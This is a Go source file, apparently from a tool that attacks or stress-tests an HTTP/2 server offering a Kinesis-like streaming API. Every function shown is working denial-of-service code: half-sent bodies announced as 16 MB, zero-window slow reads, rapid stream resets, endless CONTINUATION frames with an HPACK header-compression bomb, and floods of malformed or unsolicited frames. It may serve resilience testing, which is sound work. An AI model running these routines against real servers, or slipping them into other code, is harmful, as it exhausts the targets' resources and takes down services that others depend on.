package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// sessions makes an attack on n connections of HTTP/2, whose answers are counted.
func (a *attacker) sessions(n int, window uint32, attack func(s *session, rng *rand.Rand)) {
	const perSecond = 200
	pace := a.pace(perSecond)
	a.workers(n, func(_ int, rng *rand.Rand) {
		if !pace.wait() {
			return
		}
		s := a.openSession(window, 0)
		if s == nil {
			return
		}
		go s.listen()
		attack(s, rng)
		s.Close()
		<-s.done
	})
}

// streamsEach is how many streams of one connection are open at a time: as many
// as the server takes.
const streamsEach = 250

// announcedStreams announces large bodies in as many streams as the server
// takes, and leaves it at that.
func announcedStreams(a *attacker, span time.Duration) {
	defer a.begin(span)()
	const conns, perSecond, batch = 60, 300, 25
	fields := appendFields(nil, fieldsOf("PutRecord", contentJSON, field{"content-length", "16777216"})...)
	pace := a.pace(perSecond)
	a.sessions(conns, 1<<16, func(s *session, _ *rand.Rand) {
		for n := 0; n < streamsEach && pace.wait(); n += batch {
			for range batch {
				stream := s.open(fields, false)
				s.frame(frameData, 0, stream, []byte(`{"StreamName":"a`))
			}
			a.sent(batch)
			s.flush()
		}
		<-a.ctx.Done()
	})
}

// slowStreams asks for large answers and never opens the window for them.
func slowStreams(a *attacker, span time.Duration) {
	iterator := a.wideStream()
	defer a.begin(span)()
	const conns, each, perSecond = 10, 15, 75
	body := appendHead(nil, cborMap, 1)
	body = appendText(appendText(body, "ShardIterator"), iterator)
	fields := appendFields(nil, fieldsOf("GetRecords", contentCBOR, field{"content-length", fmt.Sprint(len(body))})...)
	pace := a.pace(perSecond)
	a.sessions(conns, 0, func(s *session, _ *rand.Rand) {
		for range each {
			if !pace.wait() {
				return
			}
			stream := s.open(fields, false)
			s.frame(frameData, flagEndStream, stream, body)
			a.sent(1)
			s.flush()
		}
		<-a.ctx.Done()
	})
}

// rapidResets opens streams and resets them at once, some with a body.
func rapidResets(a *attacker, span time.Duration) {
	defer a.begin(span)()
	const conns, perSecond, batch = 8, 100, 40
	fields := appendFields(nil, fieldsOf("ListStreams", contentJSON)...)
	cancel := binary.BigEndian.AppendUint32(nil, 8)
	pace := a.pace(perSecond)
	a.workers(conns, func(i int, _ *rand.Rand) {
		var s *session
		for pace.wait() {
			if s == nil {
				if s = a.openSession(1<<16, 0); s == nil {
					return
				}
				go s.listen()
			}
			for n := range batch {
				stream := s.open(fields, n%2 == 0)
				if n%4 == 1 {
					s.frame(frameData, flagEndStream, stream, []byte("{}"))
				}
				s.frame(frameReset, 0, stream, cancel)
			}
			a.sent(batch)
			if !s.flush() { // the server has had enough: another one
				s.Close()
				s = nil
			}
		}
		if s != nil {
			s.Close()
		}
	})
}

// headerLists sends header fields without an end: in one frame after the other,
// and by naming a large one again and again.
func headerLists(a *attacker, span time.Duration) {
	defer a.begin(span)()
	const conns, perSecond, frames, size = 8, 60, 128, 16 << 10
	long := appendFields(nil, field{"x-long", strings.Repeat("a", size-64)})
	var small []byte
	for i := range size / 16 {
		small = appendFields(small, field{fmt.Sprintf("x-%06d", i), "abcd"})
	}
	small = small[:size]
	// A field of 4 KB to remember, and then its number, a byte each.
	bomb := append([]byte{0x40}, appendFields(nil, field{"x-bomb", strings.Repeat("a", 4000)})[1:]...)
	named := []byte(strings.Repeat("\xbe", size))
	begin := appendFields(nil, fieldsOf("ListStreams", contentJSON)...)
	pace := a.pace(perSecond)
	a.workers(conns, func(_ int, rng *rand.Rand) {
		for pace.wait() {
			s := a.openSession(1<<16, 0)
			if s == nil {
				continue
			}
			go s.listen()
			payload := long
			switch rng.IntN(3) {
			case 1:
				payload = small
			case 2:
				payload = named
			}
			a.sent(1)
			s.frame(frameHeaders, flagEndStream, s.next, append(append([]byte(nil), begin...), bomb...))
			for i := 0; i < frames && s.flush(); i++ {
				s.frame(frameContinuation, 0, s.next, payload)
			}
			s.Close()
			<-s.done
		}
	})
}

// senselessFrames sends frames that nobody asked for: pings and settings whose
// answers are not read, empty data, windows beyond their bound, wrong sizes and
// numbers.
func senselessFrames(a *attacker, span time.Duration) {
	defer a.begin(span)()
	const conns, perSecond, batch = 8, 100, 100
	pace := a.pace(perSecond)
	fields := appendFields(nil, fieldsOf("PutRecord", contentJSON)...)
	a.workers(conns, func(_ int, rng *rand.Rand) {
		for a.ctx.Err() == nil {
			s := a.openSession(0, 4<<10)
			if s == nil {
				return
			}
			reads := rng.IntN(2) == 0 // else its answers pile up
			if reads {
				go s.listen()
			}
			kind := rng.IntN(7)
			stream := s.open(fields, false)
			for pace.wait() {
				for range batch {
					s.senseless(kind, stream, rng)
				}
				a.sent(batch)
				if !s.flush() {
					break
				}
			}
			s.Close()
		}
	})
}

// senseless adds a frame of a kind.
func (s *session) senseless(kind int, stream uint32, rng *rand.Rand) {
	switch kind {
	case 0:
		s.frame(framePing, 0, 0, randomBytes(rng, 8))
	case 1:
		s.frame(frameSettings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, settingInitialWindow}, rng.Uint32()>>1))
	case 2:
		s.frame(frameData, 0, stream, nil)
	case 3:
		s.frame(frameWindow, 0, uint32(rng.IntN(2))*stream, binary.BigEndian.AppendUint32(nil, 1))
	case 4:
		s.frame(framePriority, 0, 1+2*rng.Uint32N(1000), randomBytes(rng, 5))
	case 5:
		s.frame(byte(16+rng.IntN(200)), byte(rng.Uint32()), stream, randomBytes(rng, 100)) // of no type that is known
	default:
		s.frame(byte(rng.IntN(10)), byte(rng.Uint32()), rng.Uint32N(10), randomBytes(rng, rng.IntN(40)))
	}
}
